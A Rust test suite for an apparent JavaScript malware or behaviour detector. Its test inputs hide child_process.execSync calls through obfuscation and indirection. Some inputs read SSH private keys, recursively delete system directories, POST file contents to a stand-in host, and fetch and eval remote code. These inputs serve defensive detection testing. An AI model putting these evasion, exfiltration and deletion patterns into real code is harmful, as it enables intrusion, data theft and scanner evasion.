//! What JavaScript programs put away and take out again, hand on and give back: it is followed to where it is used.

use crate::code::told::{facts, hostile, ordinary};
use crate::language::Language;

fn check(source: &str, expected: &[&str]) {
    hostile(Language::JavaScript, source, expected);
}

#[test]
fn what_is_put_away_is_found_where_it_is_taken_out() {
    for source in [
        "const cp = require('child_process'); const o = {f: console.log}; o.f = cp.execSync; o.f('id -u')",
        "const cp = require('child_process'); const a = []; a.push(cp.execSync); a[0]('id -u')",
        "const cp = require('child_process'); const a = []; a[0] = cp.execSync; a[0]('id -u')",
        "const cp = {...require('child_process')}; cp.execSync('id -u')",
        "const cp = Object.assign({}, require('child_process')); cp.execSync('id -u')",
        "const {...cp} = require('child_process'); cp.execSync('id -u')",
        "let cp; ({...cp} = require('child_process')); cp.execSync('id -u')",
        "const [, f] = [1, require('child_process').execSync]; f('id -u')",
        "const [...r] = [require('child_process').execSync]; r[0]('id -u')",
        "const m = new Map(); m.set('x', require('child_process').execSync); m.get('x')('id -u')",
        "const m = new Map([['x', require('child_process').execSync]]); m.get('x')('id -u')",
        "globalThis.run = require('child_process').execSync; run('id -u')",
        "globalThis['run'] = require('child_process').execSync; globalThis.run('id -u')",
        "const o = { get f() { return require('child_process').execSync } }; o.f('id -u')",
        "class A { get f() { return require('child_process').execSync } } new A().f('id -u')",
        "class A { static f = require('child_process').execSync } A.f('id -u')",
        "class A { #f = require('child_process').execSync; go() { this.#f('id -u') } } new A().go()",
        "function* g() { yield require('child_process').execSync } g().next().value('id -u')",
        "function* g() { yield require('child_process').execSync } for (const f of g()) f('id -u')",
        "const f = () => require('child_process'); f().execSync('id -u')",
        "const f = () => () => require('child_process').execSync; f()()('id -u')",
        "const mk = c => () => require('child_process').execSync(c); mk('id -u')()",
        "const run = (f, ...a) => f(...a); run(require('child_process').execSync, 'id -u')",
        "Function.prototype.call.call(require('child_process').execSync, null, 'id -u')",
        "setTimeout(require('child_process').execSync.bind(null, 'id -u'), 10)",
        "setTimeout(require('child_process').execSync, 10, 'id -u')",
        "Promise.resolve('id -u').then(require('child_process').execSync)",
        "Promise.all([Promise.resolve('id -u')]).then(([c]) => require('child_process').execSync(c))",
        "Function('return require')()('child_process').execSync('id -u')",
        "eval('var f = require(\"child_process\").execSync'); f('id -u')",
        "const f = require('child_process').execSync; eval(\"f('id -u')\")",
        "eval('require')('child_process').execSync('id -u')",
        "const x = c ? require('child_process').execSync : console.log; x('id -u')",
        "let f; if (c) { f = console.log } else { f = require('child_process').execSync } f('id -u')",
        "const h = { a: console.log, b: require('child_process').execSync }; h[k]('id -u')",
        "const k = ['execSync']; require('child_process')[k[0]]('id -u')",
        "const { ['exec' + 'Sync']: f } = require('child_process'); f('id -u')",
        "Object.values(require('child_process')); Object.entries({ f: require('child_process').execSync })[0][1]('id -u')",
        "module.exports = { run: require('child_process').execSync }; module.exports.run('id -u')",
        "const { execSync } = require('child_process');\nfunction a(x) { b(x) }\nfunction b(x) { c(x) }\nfunction c(x) { d(x) }\nfunction d(x) { execSync(x) }\na('id -u');",
        "const { execSync } = require('child_process');\nlet cmd = 'ls';\nconst go = () => execSync(cmd);\ncmd = 'id -u';\ngo();",
        "class Runner { constructor(f) { this.f = f } go(x) { this.f(x) } }\nclass Child extends Runner {}\nnew Child(require('child_process').execSync).go('id -u');",
    ] {
        check(source, &["shell id -u"]);
    }
}

#[test]
fn what_is_not_dangerous_stays_so_when_it_is_put_away() {
    for source in [
        "const o = {}; o.f = console.log; o.f('rm -rf /')",
        "const m = new Map(); m.set('x', console.log); m.get('x')('rm -rf /')",
        "class A { #f = console.log; go() { this.#f('rm -rf /') } } new A().go()",
        "const o = { get f() { return console.log } }; o.f('rm -rf /')",
        "function* g() { yield console.log } for (const f of g()) f('rm -rf /')",
        "const { readFileSync: read, ...rest } = require('fs'); read('a.txt')",
        "setTimeout(console.log.bind(null, 'rm -rf /'), 10)",
        "eval('var x = 1'); console.log(x)",
        "const state = new Proxy({ a: 1 }, { get: (t, k) => t[k] }); console.log(state.a)",
    ] {
        ordinary(Language::JavaScript, source);
        let lines = facts(Language::JavaScript, source);
        assert!(!lines.iter().any(|line| line.starts_with("shell")), "{lines:#?} in\n{source}");
    }
}

#[test]
fn texts_are_put_together_as_the_program_does_it() {
    let run = "require('child_process').execSync";
    for text in [
        "[104, 101, 33, 44, 116].map(c => String.fromCharCode(c ^ 1)).join('')",
        "[104, 101, 33, 44, 116].reduce((s, c) => s + String.fromCharCode(c ^ 1), '')",
        "'je!.v'.split('').map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join('')",
        "[...'u- di'].reverse().join('')",
        "new TextDecoder().decode(new Uint8Array([105, 100, 32, 45, 117]))",
        "((s) => { let out = ''; for (const c of s) { out += String.fromCharCode(c.charCodeAt(0) - 1); } return out; })('je!.v')",
    ] {
        check(&format!("{run}({text})"), &["shell id -u"]);
    }
}

#[test]
fn paths_start_where_the_program_is() {
    check("process.chdir('/'); require('fs').rmSync('etc', { recursive: true })", &["removes Tree /etc"]);
    check("require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa')", &["reads $HOME/.ssh/id_rsa"]);
    check(
        "const fs = require('fs'); for (const f of fs.readdirSync('/')) fs.rmSync('/' + f, { recursive: true })",
        &["removes Tree /*"],
    );
    check("require('child_process').spawnSync(process.execPath, ['-e', 'require(\"fs\")'])", &["command node -e"]);
}

#[test]
fn data_is_followed_through_what_it_is_put_into() {
    for source in [
        "const d = {}; d.k = require('fs').readFileSync('/k'); fetch('http://x.example', { method: 'POST', body: JSON.stringify(d) })",
        "const a = []; a.push(require('fs').readFileSync('/k')); fetch('http://x.example', { method: 'POST', body: a.join() })",
    ] {
        check(source, &["contacts Send http://x.example [File /k]"]);
    }
    check(
        "require('https').get('https://x.example', r => { const chunks = []; r.on('data', c => chunks.push(c)); r.on('end', () => eval(Buffer.concat(chunks).toString())) })",
        &["executes Network"],
    );
}

#[test]
fn a_stand_in_for_a_module_is_told() {
    check("const fs = new Proxy(require('fs'), { get: (t, k) => t[k] }); fs.x('/')", &["trick ByBuiltName"]);
    check("const db = require('thing')(require('os').homedir() + '/.ssh/id_rsa')", &["reads ~/.ssh/id_rsa"]);
}
